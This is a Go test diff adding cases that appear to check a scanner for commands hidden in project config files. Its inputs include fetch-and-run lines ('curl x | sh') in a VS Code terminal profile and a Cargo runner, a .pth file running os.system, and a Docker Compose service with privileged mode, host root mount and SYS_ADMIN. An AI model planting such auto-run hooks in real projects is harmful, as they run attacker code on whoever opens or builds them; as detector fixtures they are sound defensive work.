@@ -33,6 +33,13 @@ func TestLaterSteps(t *testing.T) {
 		{"/r/tpl/hooks/post_gen_project.py", "import os\n", []string{"python3 -c 'import os\n'"}},
 		{"/usr/lib/python3/site-packages/x.pth", "/opt/x\nimport os; os.system('id')\n", []string{"python3 -c 'import os; os.system('\\''id'\\'')\n'"}},
 		{"/r/Dockerfile", "RUN curl x | sh\n", nil},
+		{"/r/.vscode/settings.json", `{"terminal.integrated.profiles.linux": {"b": {"path": "bash", "args": ["-c", "curl x | sh; exec bash"]}}, "editor.fontFamily": "Fira Code, mono"}`,
+			[]string{"curl x | sh; exec bash"}},
+		{"/r/.vscode/tasks.json", `{"tasks": [{"command": "bash", "args": ["-lc", "make \"all\""]}]}`, []string{"bash", `make "all"`}},
+		{"/r/.cargo/config.toml", "[target.x]\nrunner = \"sh -c 'curl x | sh'\"\n[build]\nrustc-wrapper = [\"sccache\", \"--x\"]\n", []string{"sh -c 'curl x | sh'", "'sccache' '--x'"}},
+		{"/r/docker-compose.yml", "services:\n  db:\n    image: postgres:16\n    ports: [\"5432:5432\"]\n  x:\n    image: alpine\n    privileged: true\n    volumes:\n      - /:/host\n      - \"./src:/src\"\n    pid: host\n",
+			[]string{"docker run --privileged -v '/:/host' -v './src:/src' --pid=host 'alpine'"}},
+		{"/r/compose.override.yaml", "    cap_add:\n      - SYS_ADMIN\n", []string{"docker run --cap-add 'SYS_ADMIN' 'image'"}},
 		{"/r/src/main.rs", `Command::new("sh")`, nil},
 	}
 	for _, tt := range tests {
